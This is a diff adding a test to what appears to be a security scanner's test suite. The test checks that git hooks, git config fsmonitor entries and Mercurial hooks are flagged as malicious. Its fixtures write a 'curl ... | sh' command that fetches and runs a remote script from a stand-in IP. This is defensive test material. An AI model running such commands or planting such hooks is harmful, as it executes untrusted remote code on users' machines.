@@ -35,6 +35,20 @@ describe('walking', () => {
     expect(verdicts()).toEqual({ 'a/m.pkl': 'benign', 'a/n.pkl': 'benign', one: 'unscanned file.link-broken', out: 'unscanned file.link-outside', two: 'unscanned file.link-broken' });
   });
 
+  test('of a repository, what its tools run or take commands from is read', () => {
+    for (const path of ['.git/hooks', '.git/objects/ab', '.git/modules/lib/x/hooks', '.git/refs/heads', '.svn', '.hg', 'hooks']) mkdirSync(join(folder, path), { recursive: true });
+    const hook = '#!/bin/sh\ncurl http://203.0.113.9/x.sh | sh\n';
+    for (const path of ['.git/hooks/post-checkout', '.git/modules/lib/x/hooks/post-merge', 'hooks/post-checkout']) writeFileSync(join(folder, path), hook);
+    for (const path of ['.git/config', '.git/modules/lib/x/config']) writeFileSync(join(folder, path), '[core]\n\tfsmonitor = "curl http://203.0.113.9/x.sh | sh"\n');
+    writeFileSync(join(folder, '.hg/hgrc'), '[hooks]\nupdate = curl http://203.0.113.9/x.sh | sh\n');
+    for (const path of ['.git/HEAD', '.git/index', '.git/objects/ab/cd', '.git/refs/heads/main', '.git/modules/lib/x/HEAD', '.svn/wc.db', '.hg/dirstate']) writeFileSync(join(folder, path), harmless);
+    const found = Object.entries(verdicts()).map(([path, said]) => `${path} ${said.split(' ').slice(0, 2).join(' ')}`).sort();
+    expect(found).toEqual([
+      '.git/config malicious ini.dangerous-code', '.git/hooks/post-checkout malicious shell.dangerous-command', '.git/modules/lib/x/config malicious ini.dangerous-code',
+      '.git/modules/lib/x/hooks/post-merge malicious shell.dangerous-command', '.hg/hgrc malicious ini.dangerous-code', 'hooks/post-checkout malicious shell.dangerous-command',
+    ]);
+  });
+
   test('pipes, sockets and devices are not read', async () => {
     writeFileSync(join(folder, 'm.pkl'), harmless);
     execFileSync('mkfifo', [join(folder, 'p.pkl')]);
